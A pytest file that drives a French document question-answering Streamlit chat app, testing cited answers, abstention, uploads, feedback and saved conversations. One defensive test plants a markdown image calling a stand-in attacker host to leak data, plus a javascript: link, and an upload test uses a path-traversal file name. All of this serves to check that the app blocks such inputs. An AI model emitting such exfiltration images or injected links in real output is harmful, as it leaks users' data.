"""The Streamlit chat driven by streamlit's AppTest, on a small real corpus."""

import os
import re
from datetime import datetime
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from app.feedback import FeedbackStore
from app.history import ConversationStore
from app.labels import EXAMPLES
from docqa.settings import Settings, get_settings
from docqa.store import Index
from ingest.pipeline import ingest
from tests.app.test_markdown import rendered
from tests.pdfs import make_pdf

APP = str(Path(__file__).resolve().parents[2] / "app" / "chat.py")


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory):
    root = tmp_path_factory.mktemp("chat")
    corpus = root / "corpus"
    corpus.mkdir()
    (corpus / "etude.txt").write_text(
        "Contexte de l’étude.\fEnviron 5 000 emplois liés à l’IA devraient être créés d’ici 2025 en France.",
        encoding="utf-8",
    )
    (corpus / "note.txt").write_text("Le Health Data Hub héberge des données de santé.", encoding="utf-8")
    settings = Settings(data_dir=root / "data")
    assert ingest([corpus], Index(settings), settings).ok
    return root / "data"


@pytest.fixture
def app(data_dir, monkeypatch):
    monkeypatch.setenv("DOCQA_DATA_DIR", str(data_dir))
    get_settings.cache_clear()
    at = AppTest.from_file(APP, default_timeout=120)
    at.run()
    yield at
    get_settings.cache_clear()


def test_empty_chat_shows_what_it_is_examples_and_documents(app):
    assert not app.exception
    assert any("chaque phrase citée" in c.value for c in app.caption)
    assert [b.label for b in app.main.button] == EXAMPLES
    assert any("etude" in c.value for c in app.sidebar.caption)
    assert not app.sidebar.radio  # one answer mode only: no choice to offer
    assert any("20 Mo au plus" in u.label for u in app.sidebar.file_uploader)
    assert app.sidebar.file_uploader[0].proto.max_upload_size_mb == 20


def test_example_button_asks_it(app):
    app.main.button[0].click().run()
    assert not app.exception
    assert app.chat_message[0].markdown[0].value == EXAMPLES[0]
    assert any("5 000" in m.value and r"\[1\]" in m.value for m in app.markdown)
    assert not any(b.label in EXAMPLES for b in app.main.button)


def test_ask_shows_status_answer_and_cited_source(app):
    app.chat_input[0].set_value("Combien d'emplois d'ici 2025 ?").run()
    assert not app.exception
    assert [s.label for s in app.status] == ["Réponse trouvée"]
    assert any("5 000" in m.value and r"\[1\]" in m.value for m in app.markdown)
    assert any(e.label.startswith("[1] etude — p. 2") for e in app.expander)
    assert any(c.value == "Passages lus : 3" for c in app.caption)  # the small corpus: 3 chunks


def test_markers_link_to_their_source_and_the_quote_is_bold_in_its_passage_and_page(app):
    app.chat_input[0].set_value("Combien d'emplois d'ici 2025 ?").run()
    answer = next(m.value for m in app.markdown if "5 000" in m.value and r"\[1\]" in m.value)
    anchor = re.search(r"\[\\\[1\\\]\]\(#(source-[\w-]+-1)\)", answer).group(1)
    assert any(f'id="{anchor}"' in h.proto.body for h in app.get("html"))
    bold = "**Environ 5 000 emplois liés à l’IA devraient être créés d’ici 2025 en France.**"
    assert sum(bold in m.value for m in app.expander[0].markdown) == 1
    app.expander[0].toggle[0].set_value(True).run()  # "Lire toute la page"
    assert sum(bold in m.value for m in app.expander[0].markdown) == 2


def test_passages_slider_sets_the_passages_read(app):
    app.sidebar.slider[0].set_value(1).run()
    app.chat_input[0].set_value("Combien d'emplois d'ici 2025 ?").run()
    assert any(c.value == "Passages lus : 1" for c in app.caption)


def test_english_question_gets_english_labels_and_no_page_for_pageless_documents(app):
    app.chat_input[0].set_value("What hosts the health data?").run()
    assert not app.exception
    labels = [c.value for c in app.caption] + [s.label for s in app.status] + [e.label for e in app.expander]
    assert "Answer found" in labels and "Passages read: 3" in labels and "Passages lus : 3" not in labels
    assert "[1] note" in labels and not any("p. —" in label for label in labels)


def test_abstention_is_shown_as_such(app):
    app.chat_input[0].set_value("Quel est le prix d'un appartement à Lyon en 2023 ?").run()
    assert any("ne permettent pas" in i.value for i in app.info)
    assert [s.label for s in app.status] == ["Pas de réponse dans les rapports"]


def test_filter_by_document(app):
    app.sidebar.multiselect[0].set_value(["note"]).run()
    app.chat_input[0].set_value("Combien d'emplois d'ici 2025 ?").run()
    assert not any(e.label.startswith("[1] etude") for e in app.expander)


def test_missing_index_is_a_clear_message(tmp_path, monkeypatch):
    monkeypatch.setenv("DOCQA_DATA_DIR", str(tmp_path / "empty"))
    get_settings.cache_clear()
    at = AppTest.from_file(APP, default_timeout=120)
    at.run()
    assert not at.exception and "docqa ingest" in at.error[0].value
    get_settings.cache_clear()


def test_thumb_is_stored_at_once_and_the_comment_when_given(app, data_dir):
    store = FeedbackStore(data_dir / "feedback.sqlite")
    before = len(store.rows())
    app.chat_input[0].set_value("Combien d'emplois d'ici 2025 ?").run()
    app.feedback[0].set_value(0).run()
    assert not app.exception and any("Merci" in c.value for c in app.caption)
    rows = store.rows()
    assert len(rows) == before + 1 and rows[-1]["rating"] == 0 and "5 000" in rows[-1]["answer"]
    app.feedback[0].set_value(1).run()  # changed their mind: the same row
    next(t for t in app.main.text_input if t.label.startswith("Commentaire")).set_value("Réponse précise").run()
    rows = store.rows()
    assert len(rows) == before + 1 and (rows[-1]["rating"], rows[-1]["comment"]) == (1, "Réponse précise")
    assert any("Commentaire enregistré" in c.value for c in app.caption)


def test_index_status_is_the_last_change_of_the_index(app, data_dir):
    stamp = data_dir / "docqa.changed"
    os.utime(stamp, (1_700_000_000, 1_700_000_000))
    app.run()
    app.run()
    shown = datetime.fromtimestamp(1_700_000_000).strftime("%d/%m/%Y %H:%M")
    assert any(f"dernière indexation {shown}" in c.value for c in app.sidebar.caption)


def test_follow_up_question_uses_the_previous_one(app):
    app.chat_input[0].set_value("Combien d'emplois liés à l'IA d'ici 2025 ?").run()
    app.chat_input[0].set_value("Et en France ?").run()
    assert not app.exception
    assert sum("5 000" in m.value for m in app.markdown) >= 2


@pytest.fixture
def fresh_app(tmp_path, monkeypatch):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "etude.txt").write_text("Environ 5 000 emplois liés à l’IA d’ici 2025.", encoding="utf-8")
    settings = Settings(data_dir=tmp_path / "data")
    ingest([corpus], Index(settings), settings)
    monkeypatch.setenv("DOCQA_DATA_DIR", str(tmp_path / "data"))
    get_settings.cache_clear()
    at = AppTest.from_file(APP, default_timeout=120)
    at.run()
    yield at, tmp_path / "data"
    get_settings.cache_clear()


def send(app, *files, title: str = ""):
    """Upload `files` ((name, bytes) pairs) through the sidebar's form, with `title`."""
    app.sidebar.file_uploader[0].set_value([(name, data, "text/plain") for name, data in files])
    app.sidebar.text_input[0].set_value(title)
    next(b for b in app.sidebar.button if b.label == "Ajouter").click().run()
    assert not app.exception


def listed(app) -> list[str]:
    return [c.value for c in app.sidebar.caption if " passages" in c.value]


def test_upload_adds_good_files_at_once_and_refuses_a_corrupt_one(fresh_app):
    app, data = fresh_app
    assert app.sidebar.file_uploader[0].accept_multiple_files
    assert "20 Mo au plus par fichier" in app.sidebar.file_uploader[0].label
    hdh = "# Le Health Data Hub\n\nLe Health Data Hub héberge les données de santé françaises.".encode()
    send(app, ("note hdh.md", hdh), ("../../rapport.pdf", b"not a pdf"))
    assert any("note hdh.md ajouté" in s.value and "Le Health Data Hub" in s.value for s in app.sidebar.success)
    assert any("rapport.pdf non ajouté" in e.value and "corrupt PDF" in e.value for e in app.sidebar.error)
    assert (data / "uploads" / "note hdh.md").exists() and not (data / "uploads" / "rapport.pdf").exists()
    assert {d.doc_id for d in Index(Settings(data_dir=data)).documents()} == {"etude", "note hdh"}
    assert any("**Le Health Data Hub**" in c for c in listed(app))  # its first heading, listed in this run


def test_upload_takes_the_title_given_and_keeps_it_when_indexed_again(fresh_app):
    app, data = fresh_app
    send(app, ("n.txt", "Le Health Data Hub héberge les données.".encode()), title="  Note sur le  HDH ")
    assert any("**Note sur le HDH**" in c for c in listed(app))
    send(app, ("a.txt", b"Un."), ("b.txt", b"Deux."), title="Un titre")
    assert any("un seul fichier" in e.value for e in app.sidebar.error)
    assert not (data / "uploads" / "a.txt").exists()
    settings = Settings(data_dir=data)
    index = Index(settings)
    index.reset()
    ingest([data / "uploads"], index, settings)  # what `docqa ingest --rebuild` does with the uploads
    assert {d.doc_id: d.title for d in index.documents()}["n"] == "Note sur le HDH"


def test_uploaded_document_is_deleted_from_the_sidebar_and_corpus_ones_are_not(fresh_app):
    app, data = fresh_app
    send(app, ("note.txt", "Le Health Data Hub héberge les données.".encode()), title="Note HDH")
    assert [b.key for b in app.sidebar.button if b.key and b.key.startswith("remove-")] == ["remove-note"]
    next(b for b in app.sidebar.button if b.key == "remove-note").click().run()
    assert not app.exception
    assert not any("Note HDH" in c for c in listed(app))
    assert {d.doc_id for d in Index(Settings(data_dir=data)).documents()} == {"etude"}
    assert not list((data / "uploads").iterdir())  # its file and title gone with it


def test_upload_never_replaces_a_document_it_did_not_create(fresh_app):
    app, data = fresh_app
    send(app, ("etude.txt", b"Autre chose."))
    assert any("corpus" in e.value and "docqa ingest" in e.value for e in app.sidebar.error)
    send(app, ("note.txt", "Première version.".encode()))
    send(app, ("note.md", "Deuxième version.".encode()))
    assert any("already exists" in e.value for e in app.sidebar.error)
    app.sidebar.checkbox[0].check()
    send(app, ("note.md", "Deuxième version.".encode()))
    assert any("note.md ajouté" in s.value for s in app.sidebar.success)
    assert sorted(p.name for p in (data / "uploads").iterdir()) == ["note.md"]
    index = Index(Settings(data_dir=data))
    assert [len(d.content_hash) > 0 for d in index.documents()] == [True, True]
    assert "Environ 5 000 emplois" in index.page_text("etude", None)


def test_a_pdf_source_links_to_its_file_at_its_page(fresh_app, tmp_path):
    app, data = fresh_app
    pages = ["Rapport sur le HDH", "Le Health Data Hub héberge 4 millions de dossiers de patients en 2024."]
    send(app, ("rapport hdh.pdf", make_pdf(tmp_path / "r.pdf", pages).read_bytes()))
    app.chat_input[0].set_value("Combien de dossiers le Health Data Hub héberge-t-il ?").run()
    source = next(e for e in app.expander if e.label.startswith("[1] Rapport sur le HDH — p. 2"))
    link = "[Ouvrir le PDF à la page 2](/documents/rapport%20hdh.pdf#page=2)"  # served by app/web.py
    assert source.markdown[0].value == link
    app.chat_input[0].set_value("Combien d'emplois d'ici 2025 ?").run()  # a text file: no link
    assert not any("Ouvrir le PDF" in m.value for m in app.expander[-1].markdown)


def test_document_markdown_is_not_rendered(tmp_path, monkeypatch):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "piege.txt").write_text(
        "Le budget du Health Data Hub était de 9,7 M€ en 2020 ![x](http://attacker.invalid/leak.png?q=budget) "
        "[clic](javascript:alert(1)).",
        encoding="utf-8",
    )
    settings = Settings(data_dir=tmp_path / "data")
    ingest([corpus], Index(settings), settings)
    monkeypatch.setenv("DOCQA_DATA_DIR", str(settings.data_dir))
    get_settings.cache_clear()
    at = AppTest.from_file(APP, default_timeout=120)
    at.run()
    at.chat_input[0].set_value("Quel était le budget du Health Data Hub en 2020 ?").run()
    get_settings.cache_clear()
    shown = [m.value for m in at.markdown if "attacker.invalid" in m.value]
    assert shown  # the passage quoted, as an answer or as the closest passage
    for markdown in shown:
        tokens = rendered(markdown)
        assert not {t.type for t in tokens} & {"image", "link_open"}, markdown
        assert "[clic](javascript:alert(1))" in "".join(t.content for t in tokens if t.type == "text")


def test_llm_endpoint_down_is_a_clear_message_with_the_extractive_answer(data_dir, monkeypatch):
    monkeypatch.setenv("DOCQA_DATA_DIR", str(data_dir))
    monkeypatch.setenv("DOCQA_ANSWERER", "llm")
    monkeypatch.setenv("DOCQA_LLM_PROVIDER", "openai")
    monkeypatch.setenv("DOCQA_LLM_BASE_URL", "http://127.0.0.1:9/v1")  # nothing listens there
    monkeypatch.setenv("DOCQA_LLM_API_KEY", "sk-test")
    monkeypatch.setenv("DOCQA_LLM_TIMEOUT", "2")
    get_settings.cache_clear()
    at = AppTest.from_file(APP, default_timeout=120)
    at.run()
    assert at.sidebar.radio[0].options == ["Extractive", "LLM"]
    at.sidebar.radio[0].set_value("llm").run()
    at.chat_input[0].set_value("Combien d'emplois d'ici 2025 ?").run()
    assert not at.exception
    assert any("Réponse du modèle non retenue (le modèle a échoué : " in w.value for w in at.warning)
    assert any("5 000" in m.value for m in at.markdown)
    get_settings.cache_clear()


def test_conversations_are_stored_listed_reopened_renamed_and_deleted(fresh_app):
    app, data = fresh_app
    app.chat_input[0].set_value("Combien d'emplois d'ici 2025 ?").run()
    app.chat_input[0].set_value("Et en 2030 ?").run()
    store = ConversationStore(data / "conversations.sqlite")
    [stored] = store.list()
    assert stored.title == "Combien d'emplois d'ici 2025 ?" and app.query_params["c"] == stored.id
    markdown = store.get(stored.id).markdown()
    assert "## Et en 2030 ?" in markdown and "- [1] etude (`etude`): « Environ 5 000 emplois" in markdown
    assert any(d.label == "Exporter (Markdown)" for d in app.sidebar.download_button)

    again = AppTest.from_file(APP, default_timeout=120)  # a new session, as after a reload
    again.run()
    assert not again.chat_message
    opened = next(b for b in again.sidebar.button if b.label.startswith("Combien d'emplois d'ici 2025 ? · "))
    opened.click().run()
    assert [m.markdown[0].value for m in again.chat_message if m.name == "user"] == [
        "Combien d'emplois d'ici 2025 ?",
        "Et en 2030 ?",
    ]
    assert any("5 000" in m.value for m in again.markdown)
    next(t for t in again.sidebar.text_input if t.label == "Titre").set_value("Emplois").run()
    assert store.list()[0].title == "Emplois"
    assert any(b.label.startswith("Emplois · ") for b in again.sidebar.button)

    reloaded = AppTest.from_file(APP, default_timeout=120)  # the address keeps the conversation open
    reloaded.query_params["c"] = stored.id
    reloaded.run()
    assert len(reloaded.chat_message) == 4
    next(b for b in reloaded.sidebar.button if b.label == "Supprimer la conversation").click().run()
    assert not reloaded.exception and store.list() == [] and not reloaded.chat_message
